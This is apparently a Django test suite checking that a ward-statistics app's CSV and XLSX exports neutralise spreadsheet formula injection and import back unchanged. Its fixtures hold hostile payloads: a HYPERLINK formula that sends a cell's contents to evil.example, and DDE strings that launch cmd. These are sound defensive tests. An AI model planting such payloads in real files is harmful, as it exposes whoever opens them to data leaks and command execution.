"""Every file we write is safe to open in Excel, and our own files come back unchanged
(issue [hardening] items 1 and 5).

A ward editor can store text beginning with `=`, `+`, `-` or `@` (a report note, a cadre's name
or position, a cell's name). No CSV or XLSX we write carries it as a formula: it is written with
a `'` in front (OWASP's rule), numbers stay numbers, and the importer recognises our `'`, so
the export imports as unchanged.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.spreadsheets.conftest import download, state, upload
from wardstats.core import exports
from wardstats.hierarchy.models import Cell, Unit
from wardstats.indicators import summaries
from wardstats.reports.models import Report
from wardstats.spreadsheets import writer
from wardstats.spreadsheets.columns import CADRE_SHEET
from wardstats.staffing.models import Cadre

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(A1:A9)"
MINUS = "-2+3+cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(ward):
    """Ward A's texts, as a hostile ward editor could have saved them."""
    Report.objects.filter(pk=ward.report.pk).update(note=LEAK)
    Cadre.objects.filter(pk=ward.an.pk).update(full_name=LEAK)
    Cadre.objects.filter(pk=ward.binh.pk).update(position=CALC)
    Cadre.objects.filter(pk=ward.cuong.pk).update(full_name=SUM)
    Cell.objects.filter(pk=ward.school.pk).update(name=MINUS)
    return ward


def xlsx_cells(content: bytes):
    """Every cell of every sheet (openpyxl in full mode: a formula has data_type "f")."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_safe_xlsx(content: bytes, *, texts=(), numbers=()) -> None:
    cells = list(xlsx_cells(content))
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    values = [c.value for c in cells]
    dangerous = [v for v in values if isinstance(v, str) and v.startswith(DANGEROUS)]
    assert not dangerous, dangerous
    for text in texts:
        assert "'" + text in values, f"{text!r} is not in the workbook, neutralised"
    for number in numbers:
        assert any(type(v) is int and v == number for v in values), f"{number} is not a number"


def assert_safe_csv(content: bytes, *, texts=()) -> list[list[str]]:
    assert content.startswith(exports.BOM.encode()), "Excel needs the BOM for UTF-8"
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    values = [value for row in rows for value in row]
    dangerous = [v for v in values if v.startswith(DANGEROUS)]
    assert not dangerous, dangerous
    for text in texts:
        assert "'" + text in values, f"{text!r} is not in the CSV, neutralised"
    return rows


def test_the_wards_workbook_carries_no_formula_and_its_numbers_stay_numbers(
    hostile, client_for, alice
):
    content = download(client_for(alice), hostile)
    assert_safe_xlsx(content, texts=[LEAK, CALC, SUM, MINUS], numbers=[30, 15, 45])


@pytest.mark.parametrize(
    ("sheet", "texts"), [("report", [LEAK]), ("cells", [MINUS]), ("cadres", [LEAK, CALC, SUM])]
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_each_sheet_alone_is_safe(hostile, client_for, alice, sheet, texts, fmt):
    content = download(client_for(alice), hostile, sheet, fmt)
    if fmt == "csv":
        assert_safe_csv(content, texts=texts)
    else:
        assert_safe_xlsx(content, texts=texts)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_admins_export_of_cadre_records_is_safe(hostile, fmt):
    rows = writer.rows_of_cadres(Cadre.objects.filter(ward=hostile.unit))
    content = writer.sheet_response(CADRE_SHEET, rows, fmt, "can-bo").content
    if fmt == "csv":
        assert_safe_csv(content, texts=[LEAK, CALC, SUM])
    else:
        assert_safe_xlsx(content, texts=[LEAK, CALC, SUM])


@pytest.mark.parametrize("page", ["area", "rollup", "completeness"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_dashboards_exports_are_safe(hostile, client_for, olga, page, fmt):
    Unit.objects.filter(pk=hostile.unit.pk).update(name=LEAK)
    summaries.refresh_all()
    url = reverse(f"dashboards:{page}", args=[hostile.h.district.pk])
    response = client_for(olga).get(url, {"period": hostile.period.pk, "_export": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        assert_safe_csv(response.content, texts=[LEAK] if page != "rollup" else [])
    else:
        assert_safe_xlsx(response.content, texts=[LEAK] if page != "rollup" else [])


def test_the_hostile_workbook_imports_as_unchanged(hostile, client_for, alice):
    client = client_for(alice)
    before = state()
    response = upload(client, hostile, download(client, hostile))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Tệp này không thay đổi gì" in html, html[html.find("<main") :][:2000]
    assert state() == before


@pytest.mark.parametrize("sheet", ["report", "cells", "cadres"])
def test_each_hostile_csv_imports_as_unchanged(hostile, client_for, alice, sheet):
    client = client_for(alice)
    before = state()
    content = download(client, hostile, sheet, "csv")
    response = upload(client, hostile, content, name=f"{sheet}.csv")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Tệp này không thay đổi gì" in html, html[html.find("<main") :][:2000]
    assert state() == before


NOTES = [
    'Ghi chú "quan trọng"',
    '"Trích dẫn" ở đầu, và dấu phẩy; dấu chấm phẩy',
    'Hai dòng:\ndòng thứ hai có "ngoặc" và \' nháy đơn',
]


@pytest.mark.parametrize("note", NOTES)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_note_with_quotes_comes_back_unchanged(ward, client_for, alice, note, fmt):
    """csv.Sniffer once guessed `doublequote=False` from our own file: the note came back
    changed, its quotes doubled."""
    Report.objects.filter(pk=ward.report.pk).update(note=note)
    client = client_for(alice)
    before = state()
    content = download(client, ward, "report", fmt)
    response = upload(client, ward, content, name=f"bao-cao.{fmt}")
    assert response.status_code == 200
    assert "Tệp này không thay đổi gì" in response.content.decode()
    assert state() == before


def test_a_csv_from_excel_in_a_semicolon_language_still_reads(ward, client_for, alice):
    """Excel where decimals take a comma separates with ";": still read, quotes and all."""
    client = client_for(alice)
    content = download(client, ward, "report", "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    before = state()
    response = upload(client, ward, out.getvalue().encode("utf-8-sig"), name="bao-cao.csv")
    assert response.status_code == 200
    assert "Tệp này không thay đổi gì" in response.content.decode()
    assert state() == before


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-", "'-"),
        ("@user", "'@user"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chi bộ = 1", "Chi bộ = 1"),
        ("'quoted'", "'quoted'"),
        (-5, -5),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_what_is_neutralised_and_restored(value, written):
    assert exports.neutralised(value) == written
    assert exports.restored(written) == value
